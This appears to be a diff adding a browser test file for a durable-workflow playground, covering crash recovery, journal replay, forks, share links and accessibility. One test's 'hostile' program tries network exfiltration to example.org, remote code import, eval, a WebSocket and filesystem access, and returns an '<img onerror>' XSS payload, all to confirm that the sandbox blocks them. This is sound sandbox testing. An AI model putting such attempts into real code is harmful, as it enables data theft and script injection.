@@ -1,0 +1,331 @@
+import { gzipSync } from "node:zlib";
+import { expect, test } from "vitest";
+import { axeProblems } from "../../../packages/dashboard/test/support/axe.ts";
+import { picture, type Page, type Response } from "../../../packages/dashboard/test/support/chromium.ts";
+import { Player } from "./player.ts";
+import type { SiteVisit } from "./site.ts";
+
+/** The calls of each program when nothing goes wrong, and its end. */
+const programs = {
+  story: { calls: 4, end: "completed" },
+  agent: { calls: 4, end: "completed" },
+  approval: { calls: 3, end: "completed" },
+  review: { calls: 4, end: "completed" },
+  saga: { calls: 5, end: "failed" },
+  race: { calls: 3, end: "completed" },
+} as const;
+
+/** A person at the playground. */
+export function playgroundTests(site: () => SiteVisit): void {
+  const playground = (program: string): string => `${site().url}playground?program=${program}`;
+
+  async function visit(program: string, byHand = true): Promise<Player> {
+    return Player.open(await site().page(), playground(program), byHand);
+  }
+
+  /** Goes on to the end, and answers what is asked. */
+  async function toTheEnd(player: Player): Promise<string> {
+    for (;;) {
+      const state = await player.finish();
+      if (state !== "waiting") return state;
+      await player.press("Answer");
+      await player.page.locator("[data-wait]").waitFor({ state: "detached" });
+    }
+  }
+
+  const calls = async (player: Player): Promise<number> =>
+    (await player.count("Model calls")) + (await player.count("Service calls"));
+
+  test.each(Object.entries(programs))(
+    "%s survives a crash in each of its steps, with reloads",
+    async (name, { calls: plain, end }) => {
+      const player = await visit(name);
+      const { page } = player;
+      let crashes = 0;
+      for (let answered = 0; ; answered++) {
+        const before = await calls(player);
+        await player.press("Run");
+        // So many calls are answered before the crash.
+        let state = await player.next();
+        for (let n = 0; n < answered && state === "call"; n++) {
+          await player.reply();
+          state = await player.next();
+          if (state !== "waiting") continue;
+          await player.press("Answer");
+          await page.locator("[data-wait]").waitFor({ state: "detached" });
+          state = await player.next();
+        }
+        if (state !== "call") break;
+        const lost = await player.open();
+        crashes += 1;
+        if (answered % 2 === 0) {
+          await player.crash();
+          expect(await page.locator("[data-lost]").count(), `${name} ${answered}`).toBe(new Set(lost).size);
+        } else {
+          // A reload ends the worker, too. The page shows the journal again, and runs nothing.
+          const recorded = await player.entries();
+          await page.reload();
+          await player.ready();
+          await page.locator(".pg-entries > [data-kind]").first().waitFor();
+          expect((await player.entries()).slice(0, recorded.length)).toEqual(recorded);
+          expect(await player.open()).toEqual([]);
+        }
+        await player.press("Continue");
+        expect(await toTheEnd(player), `${name} ${answered}`).toBe(end);
+        // Only what was under way is called again.
+        expect((await calls(player)) - before, `${name} ${answered}`).toBe(plain + lost.length);
+      }
+      expect(crashes).toBeGreaterThanOrEqual(name === "race" || name === "review" ? 2 : plain);
+      await page.context().close();
+    },
+  );
+
+  test("results from the journal are marked, counted, and not paid again", async () => {
+    const player = await visit("story");
+    await player.press("Run");
+    for (let n = 0; n < 2; n++) {
+      await player.next();
+      await player.reply();
+    }
+    expect(await player.next()).toBe("call");
+    await player.crash();
+    await picture(player.page, "playground-crashed");
+    await player.press("Continue");
+    await player.next();
+    const marked = player.page.locator(".pg-entry:has(.pg-kept)");
+    expect(await marked.evaluateAll((all) => all.map((one) => one.getAttribute("data-key")))).toEqual([
+      "outline",
+      "chapter",
+    ]);
+    expect(await player.count("From the journal")).toBe(2);
+    expect(await player.page.locator('[data-count="From the journal"]').textContent()).toMatch(
+      /\$0\.00[1-9]\d not paid/,
+    );
+    expect(await player.finish()).toBe("completed");
+    expect(await player.count("Model calls")).toBe(5);
+    await player.page.context().close();
+  });
+
+  test("a fork pays for what is new, and an edited output is what the rest sees", async () => {
+    const player = await visit("story");
+    const { page } = player;
+    await player.press("Run");
+    expect(await player.finish()).toBe("completed");
+    await page.getByRole("button", { name: "Fork from here: chapter#2" }).click();
+    expect(await player.finish()).toBe("completed");
+    // The second chapter and the title.
+    expect(await player.count("Model calls")).toBe(4 + 2);
+    expect(await page.locator(".pg-entry.pg-inherited[data-key]").count()).toBe(2);
+    await page.getByRole("button", { name: "Edit this output: outline" }).click();
+    await page.getByLabel("Another output of outline, as JSON").fill('"the fog, the bell"');
+    await page.getByRole("button", { name: "Fork with this" }).click();
+    expect(await player.finish()).toBe("completed");
+    expect(await player.count("Model calls")).toBe(4 + 2 + 3);
+    expect(await page.locator(".pg-edited").count()).toBe(1);
+    // The parent is as it was, and all three are in the tree.
+    expect(await page.locator(".pg-tree li").count()).toBe(3);
+    expect(await page.locator(".pg-tree svg .pg-hollow").count()).toBe(2 + 1);
+    await picture(page, "playground-forks");
+    await page.reload();
+    await player.ready();
+    await page.locator(".pg-tree li").nth(2).waitFor();
+    expect(await page.locator(".pg-tree li").allTextContents()).toEqual([
+      "run-1 completed",
+      "run-2 completed, fork of run-1",
+      "run-3 completed, fork of run-2",
+    ]);
+    await page.context().close();
+  });
+
+  /** Replaces the text in the editor. */
+  async function write(player: Player, change: (code: string) => string): Promise<void> {
+    const content = player.page.locator(".pg .cm-content");
+    const code = await content.evaluate((element) =>
+      [...element.querySelectorAll(".cm-line")].map((line) => line.textContent).join("\n"),
+    );
+    await content.click();
+    await player.page.keyboard.press("ControlOrMeta+a");
+    await player.page.keyboard.insertText(change(code));
+  }
+
+  test("code is changed under a parked run, and a change that does not fit is refused by name", async () => {
+    const player = await visit("approval");
+    const { page } = player;
+    await player.press("Run");
+    expect(await player.finish()).toBe("waiting");
+    await page.reload();
+    await player.ready();
+    await page.locator("[data-wait=approve]").waitFor();
+    await write(player, (code) => code.replace("mail to", "letter to"));
+    await player.press("Answer");
+    await page.locator("[data-wait]").waitFor({ state: "detached" });
+    expect(await player.finish()).toBe("completed");
+    expect(await calls(player)).toBe(3);
+    expect(await player.said()).toContain("from the journal");
+
+    await player.press("Run");
+    expect(await player.finish()).toBe("waiting");
+    await write(player, (code) => code.replace('"approve"', '"permit"'));
+    await player.press("Answer");
+    await page.waitForFunction(() => document.querySelector(".pg-journal")?.textContent?.includes("approve"));
+    await page.locator('[data-state="blocked"], .pg-bad').first().waitFor();
+    expect(await player.said()).toMatch(/approve/);
+    await page.context().close();
+  });
+
+  test("a link carries the program with its journal, and nothing runs before a button is pressed", async () => {
+    const player = await visit("approval");
+    await player.press("Run");
+    expect(await player.finish()).toBe("waiting");
+    const recorded = await player.entries();
+    await player.press("Share");
+    const link = await player.page.locator(".pg-link input").inputValue();
+    expect(link.length).toBeLessThan(16_000);
+    await player.page.context().close();
+
+    const page = await site().page();
+    const guest = new Player(page);
+    await page.goto(link);
+    await guest.ready();
+    await page.locator("[data-wait=approve]").waitFor();
+    expect(await guest.entries()).toEqual(recorded);
+    expect(await guest.said()).toContain("came with a link");
+    expect(await page.locator('[data-count="Workers"] dd').first().textContent()).toBe("0");
+    await guest.press("Answer");
+    await page.locator("[data-wait]").waitFor({ state: "detached" });
+    expect(await guest.finish()).toBe("completed");
+    expect(await calls(guest)).toBe(3);
+
+    // A damaged link is refused, and the page works.
+    await page.goto("about:blank");
+    await page.goto(link.slice(0, -40));
+    await guest.ready();
+    await page.getByText("This link is damaged").waitFor();
+    await page.context().close();
+  });
+
+  const hostile = `import { durable } from "@durable/core";
+export default durable("hostile", async (ctx) => {
+  const tried: string[] = await ctx.step("try", async () => {
+    const said: string[] = [];
+    const attempt = async (name: string, work: () => unknown) => {
+      try { await work(); said.push(name + " worked"); } catch { said.push(name + " refused"); }
+    };
+    await attempt("fetch", () => fetch("https://example.org/?secret"));
+    await attempt("fetch-site", () => fetch("/"));
+    await attempt("import", () => import("https://example.org/x.js"));
+    await attempt("eval", () => (0, eval)("1"));
+    await attempt("socket", () => new Promise((ok, no) => { const s = new WebSocket("wss://example.org"); s.onopen = ok; s.onerror = no; }));
+    await attempt("module", () => require("node:fs"));
+    return said;
+  });
+  return "<img src=x onerror=alert(1)> " + tried.join(", ");
+});
+`;
+
+  test("a program reaches no network, and its values are texts", async () => {
+    const player = await visit("story", false);
+    await write(player, () => hostile);
+    await player.press("Run");
+    expect(await player.finish()).toBe("completed");
+    const said = await player.said();
+    for (const name of ["fetch", "fetch-site", "import", "eval", "socket", "module"])
+      expect(said).toContain(`${name} refused`);
+    expect(said).not.toContain("worked");
+    expect(said).toContain("<img src=x onerror=alert(1)>");
+    expect(await player.page.locator(".pg-journal img").count()).toBe(0);
+    // Refusals of the policy are what this test wants.
+    site().errors.length = 0;
+    await player.page.context().close();
+  });
+
+  test("a program that never ends is crashed, one that cannot be compiled is explained", async () => {
+    const player = await visit("story", false);
+    await write(
+      player,
+      () =>
+        'import { durable } from "@durable/core";\nexport default durable("loop", async (ctx) => { await ctx.step("a", () => 1); for (;;) {} });\n',
+    );
+    await player.press("Run");
+    await player.crash();
+    await write(player, () => "export default durable(;\n");
+    await player.press("Run");
+    const refusal = player.page.getByText(/Unexpected token/);
+    await refusal.waitFor();
+    expect(await refusal.count()).toBeGreaterThan(0);
+    await player.page.context().close();
+  });
+
+  async function looks(page: Page, name: string): Promise<string[]> {
+    await picture(page, name);
+    return (await axeProblems(page)).map((problem) => `${name}: ${problem}`);
+  }
+
+  test("axe finds nothing in it, light and dark, wide and narrow", async () => {
+    const found: string[] = [];
+    for (const colorScheme of ["light", "dark"] as const)
+      for (const width of [1280, 390]) {
+        const page = await site().page({ colorScheme, viewport: { width, height: 900 } });
+        const player = await Player.open(page, site().url);
+        found.push(...(await looks(page, `first-${colorScheme}-${width}`)));
+        await player.press("Run");
+        await player.next();
+        await player.reply();
+        await player.next();
+        found.push(...(await looks(page, `running-${colorScheme}-${width}`)));
+        expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), `${width}`).toBe(
+          true,
+        );
+        await page.context().close();
+      }
+    expect(found).toEqual([]);
+  });
+
+  test("three guides have one, and it is a page to embed", async () => {
+    for (const [guide, program] of [
+      ["forking", "outline"],
+      ["human-review", "draft"],
+      ["undoing-work", "flight"],
+    ] as const) {
+      const page = await site().page();
+      await page.goto(`${site().url}guides/write/${guide}`);
+      await page.getByRole("button", { name: /Try it here/ }).click();
+      const player = new Player(page);
+      await player.ready();
+      await page.locator(".pg").getByLabel("Answers").selectOption("by hand");
+      await player.press("Run");
+      expect(await player.next()).toBe("call");
+      expect(await player.open()).toEqual([program]);
+      await page.context().close();
+    }
+    const player = await Player.open(await site().page(), `${site().url}embed?program=saga`);
+    await player.press("Run");
+    expect(await player.finish()).toBe("failed");
+    expect(await player.said()).toContain("no car left in Lisbon");
+    await player.page.context().close();
+  });
+
+  test("the first page is light, and its playground comes after it", async () => {
+    const page = await site().page();
+    const responses: Response[] = [];
+    page.on("response", (response) => responses.push(response));
+    await page.goto(site().url, { waitUntil: "networkidle" });
+    await page.locator(".pg .cm-content").waitFor();
+    await page.waitForLoadState("networkidle");
+    const kilobytes = (names: readonly (readonly [string, number])[]): number =>
+      Math.round(names.reduce((sum, [, size]) => sum + size, 0) / 1_000);
+    const all = await Promise.all(
+      responses
+        .filter((response) => response.url().startsWith(site().url))
+        .map(async (response) => [response.url(), gzipSync(await response.body()).length] as const),
+    );
+    const code = all.filter(([url]) => /\/playground\.(?!md\.)[^/]*\.js$/.test(url));
+    console.log(
+      `first page: ${kilobytes(all)} kB gzipped in ${all.length} files, ${kilobytes(code)} kB of them the playground`,
+    );
+    expect(code).toHaveLength(1);
+    expect(kilobytes(all) - kilobytes(code)).toBeLessThan(250);
+    expect(kilobytes(code)).toBeLessThan(500);
+    await page.context().close();
+  });
+}
